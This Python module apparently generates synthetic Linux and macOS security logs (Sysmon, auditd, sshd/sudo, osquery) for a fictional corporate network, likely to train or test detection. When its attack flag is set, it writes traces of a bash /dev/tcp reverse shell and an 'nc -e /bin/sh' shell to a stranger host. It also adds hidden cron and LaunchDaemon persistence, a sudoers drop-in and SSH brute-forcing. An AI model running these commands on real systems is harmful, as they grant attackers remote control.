"""Linux and macOS: Sysmon for Linux, the audit daemon, sshd, osquery."""
from datetime import timedelta

from generate import Dice

from .common import OFFICE, PEOPLE, STRANGERS

WEB = "web-02.corp.example"


# -- Sysmon for Linux

def sysmon_event(log, time, event, version, data):
    items = "".join(f'<Data Name="{k}">{v}</Data>' for k, v in [("RuleName", "-"), ("UtcTime", time.strftime("%Y-%m-%d %H:%M:%S.000"))] + data)
    log.add(time, time.strftime("%b %d %H:%M:%S ") + f'{WEB} sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}"/>'
            f"<EventID>{event}</EventID><Version>{version}</Version><Level>4</Level><Task>{event}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
            f'<TimeCreated SystemTime="{time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z")}"/><EventRecordID>{4000 + len(log.items)}</EventRecordID><Correlation/>'
            f'<Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>{WEB}</Computer><Security UserId="0"/></System>'
            f"<EventData>{items}</EventData></Event>")


def guid(log):
    return "{5E9A1C00-%s-6643-%s-000000000000}" % (log.dice.hexadecimal(4), log.dice.hexadecimal(4))


def process(log, time, image, line, user, parent_image, parent_line):
    sysmon_event(log, time, 1, 5, [
        ("ProcessGuid", guid(log)), ("ProcessId", log.dice.number(2000, 30000)), ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"),
        ("Company", "-"), ("OriginalFileName", "-"), ("CommandLine", line), ("CurrentDirectory", "/"), ("User", user), ("LogonId", 0), ("TerminalSessionId", 3),
        ("IntegrityLevel", "no level"), ("Hashes", "-"), ("ParentProcessGuid", guid(log)), ("ParentProcessId", log.dice.number(900, 1900)),
        ("ParentImage", parent_image), ("ParentCommandLine", parent_line), ("ParentUser", user)])


def created(log, time, image, path, user):
    sysmon_event(log, time, 11, 2, [("ProcessGuid", guid(log)), ("ProcessId", log.dice.number(2000, 30000)), ("Image", image), ("TargetFilename", path),
                                    ("CreationUtcTime", time.strftime("%Y-%m-%d %H:%M:%S.000")), ("User", user)])


def sysmon(log):
    daily = [("/usr/bin/ls", "ls -l /var/www", "akaya", "/usr/bin/bash", "-bash"), ("/usr/bin/curl", "curl -s https://intranet.corp.example/health", "www-data", "/usr/bin/dash", "sh -c health"),
             ("/usr/bin/bash", "bash /opt/deploy/roll.sh", "akaya", "/usr/bin/bash", "-bash"), ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "root", "/usr/sbin/cron", "/usr/sbin/CRON -f"),
             ("/usr/bin/nc", "nc -z db-01.corp.example 5432", "akaya", "/usr/bin/bash", "-bash"), ("/usr/bin/python3", "python3 /opt/report/run.py --socket /run/report.sock", "akaya", "/usr/bin/bash", "-bash")]
    for n, time in enumerate(log.times(36)):
        process(log, time, *daily[n % len(daily)])
    for time in log.times(6):
        created(log, time, "/usr/bin/vim", "/home/akaya/notes.txt", "akaya")
    created(log, log.at("09:40:00"), "/usr/bin/dpkg", "/etc/cron.d/sysstat", "root")
    created(log, log.at("09:41:00"), "/usr/bin/crontab", "/var/spool/cron/crontabs/akaya", "akaya")
    process(log, log.at("09:50:00"), "/usr/bin/grep", "grep -rn /dev/tcp/ /opt/deploy", "akaya", "/usr/bin/bash", "-bash")
    sysmon_event(log, log.at("09:55:00"), 23, 5, [("ProcessGuid", guid(log)), ("ProcessId", 4100), ("User", "root"), ("Image", "/usr/bin/rm"), ("TargetFilename", "/etc/cron.d/old-report"),
                                                  ("Hashes", "-"), ("IsExecutable", "-"), ("Archived", "-")])
    if log.attack:
        process(log, log.at("13:00:10"), "/usr/bin/bash", f"bash -i >& /dev/tcp/{STRANGERS[1]}/4444 0>&1".replace("&", "&amp;").replace(">", "&gt;"), "www-data", "/usr/bin/php", "php-fpm: pool www")
        process(log, log.at("13:01:30"), "/usr/bin/nc", f"nc -e /bin/sh {STRANGERS[1]} 4445", "www-data", "/usr/bin/dash", "sh -c nc")
        created(log, log.at("13:04:00"), "/usr/bin/bash", "/etc/cron.d/.sync", "root")
        created(log, log.at("13:05:00"), "/usr/bin/python3", "/etc/cron.hourly/rotate", "root")
    return log.lines()


# -- the audit daemon

def syscall(log, time, number, name, comm, exe, user, paths=(), args="", success="yes", key="files"):
    """A SYSCALL record and its PATH records: one serial number."""
    serial = 7000 + len(log.items)
    msg = f"msg=audit({time.timestamp():.3f}:{serial}):"
    log.add(time, f"type=SYSCALL {msg} arch=c000003e syscall={number} success={success} exit=0 {args}items={len(paths)} ppid=1201 pid={2000 + serial} auid=1001 uid=0 "
            f'gid=0 euid=0 tty=pts0 ses=4 comm="{comm}" exe="{exe}" key="{key}"ARCH=x86_64 SYSCALL={name} AUID="{user}" UID="root"')
    for n, (path, kind) in enumerate(paths):
        log.add(time, f'type=PATH {msg} item={n} name="{path}" inode={9000 + serial} dev=fd:00 mode=0100644 ouid=0 ogid=0 nametype={kind}')


def audit(log):
    for n, time in enumerate(log.times(14)):
        syscall(log, time, 268, "fchmodat", "chmod", "/usr/bin/chmod", PEOPLE[n % 6], [("/opt/deploy/roll.sh", "NORMAL")], "a0=ffffff9c a1=55d1 a2=1ed a3=0 ")
        syscall(log, time + timedelta(seconds=40), 257, "openat", "vim", "/usr/bin/vim.basic", PEOPLE[n % 6], [("/etc/hosts", "NORMAL")], "a0=ffffff9c a1=55d1 a2=241 a3=1a4 ")
    syscall(log, log.at("09:30:00"), 257, "openat", "dpkg", "/usr/bin/dpkg", "root", [("/etc/sudoers.d/README", "CREATE")], key="sudoers")
    syscall(log, log.at("09:35:00"), 268, "fchmodat", "chmod", "/usr/bin/chmod", "akaya", [("/usr/bin/ls", "NORMAL")], "a0=ffffff9c a1=55d1 a2=9ed a3=0 ", success="no")
    if log.attack:
        syscall(log, log.at("13:10:00"), 268, "fchmodat", "chmod", "/usr/bin/chmod", "jdoe", [("/tmp/.x/sh", "NORMAL")], "a0=ffffff9c a1=55d1 a2=9ed a3=0 ")
        syscall(log, log.at("13:12:00"), 257, "openat", "tee", "/usr/bin/tee", "jdoe", [("/etc/sudoers.d/90-jdoe", "CREATE")], "a0=ffffff9c a1=7ffd a2=241 a3=1b6 ", key="sudoers")
    return log.lines()


# -- sshd and sudo

def secure(log):
    def line(time, text):
        log.add(time, time.strftime("%b %d %H:%M:%S ") + f"web-02 {text}")

    for n, time in enumerate(log.times(30)):
        user = PEOPLE[n % len(PEOPLE)]
        if n % 7 == 3:
            line(time - timedelta(seconds=8), f"sshd[{900 + n}]: Failed password for {user} from {OFFICE[user]} port {40000 + n} ssh2")
        line(time, f"sshd[{900 + n}]: Accepted publickey for {user} from {OFFICE[user]} port {40000 + n} ssh2: RSA SHA256:example")
        line(time + timedelta(seconds=30), f"sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx")
    for n, user in enumerate(PEOPLE):
        line(log.at("12:00:00", 20 * n), f"sshd[{1300 + n}]: Accepted publickey for {user} from 10.20.0.7 port {42000 + n} ssh2: RSA SHA256:example")
        line(log.at("12:02:30", 20 * n), f"su: FAILED su for {user} by akaya")
    if log.attack:
        guessed = ["admin", "root", "test", "oracle", "ubuntu", "deploy"]
        for n in range(24):
            name = guessed[n % len(guessed)]
            unknown = "" if name == "root" else "invalid user "
            line(log.at("03:11:00", 4 * n), f"sshd[{1500 + n}]: Failed password for {unknown}{name} from {STRANGERS[0]} port {51000 + n} ssh2")
    return log.lines()


# -- osquery on a Mac

def osquery(log):
    def row(time, query, columns):
        log.add_json(time, {"name": query, "hostIdentifier": "mac-07.corp.example", "calendarTime": time.strftime("%a %b %d %H:%M:%S %Y UTC"), "unixTime": int(time.timestamp()),
                            "epoch": 0, "counter": len(log.items), "numerics": False, "decorations": {"host_uuid": "M-07"}, "columns": columns, "action": "added"})

    def written(time, path, action="CREATED"):
        row(time, "file_events", {"target_path": path, "action": action, "category": "watched", "uid": "501", "sha256": Dice(len(path)).hexadecimal(64).lower(), "time": str(int(time.timestamp()))})

    for n, time in enumerate(log.times(20)):
        row(time, "process_events", {"cmdline": ["/usr/bin/git pull", "/bin/ls -la", "/usr/bin/ssh web-02.corp.example"][n % 3], "path": ["/usr/bin/git", "/bin/ls", "/usr/bin/ssh"][n % 3],
                                     "pid": str(700 + n), "parent": "310", "uid": "501", "username": "efischer", "event_type": "exec", "cwd": "/Users/efischer"})
        written(time + timedelta(seconds=5), ["/Users/efischer/Documents/plan.txt", "/etc/hosts", "/Users/efischer/Library/Preferences/x.plist"][n % 3], ["CREATED", "UPDATED", "UPDATED"][n % 3])
    written(log.at("09:00:00"), "/Users/efischer/Library/LaunchAgents/com.example.chat.plist", "UPDATED")
    if log.attack:
        written(log.at("13:40:00"), "/Users/efischer/Library/LaunchAgents/com.example.update.plist")
        written(log.at("13:41:00"), "/Library/LaunchDaemons/com.example.sync.plist")
    return log.lines()
